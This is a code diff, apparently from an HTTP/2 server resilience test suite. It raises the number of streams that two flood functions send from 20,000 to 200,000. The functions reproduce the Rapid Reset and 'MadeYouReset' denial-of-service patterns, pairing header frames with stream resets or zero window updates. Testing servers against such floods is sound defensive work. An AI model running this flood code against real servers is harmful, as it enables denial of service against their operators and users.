@@ -109,7 +109,7 @@ def flood(wire, piece, count, **options):
 def rapid_reset(wire):
     head = request_head()
     ended = flood(wire, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, head) +
-                  frame(RST, 0, 2 * i + 1, struct.pack('>I', 8)), 20000)
+                  frame(RST, 0, 2 * i + 1, struct.pack('>I', 8)), 200000)
     return ended and wire.goaway() in (CALM, None), wire.goaway()
 
 
@@ -117,7 +117,7 @@ def made_you_reset(wire):
     """The server resets, for a fault of ours on each stream."""
     head = request_head()
     ended = flood(wire, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, head) +
-                  frame(WINDOW, 0, 2 * i + 1, struct.pack('>I', 0)), 20000)
+                  frame(WINDOW, 0, 2 * i + 1, struct.pack('>I', 0)), 200000)
     return ended, wire.goaway()
 
 
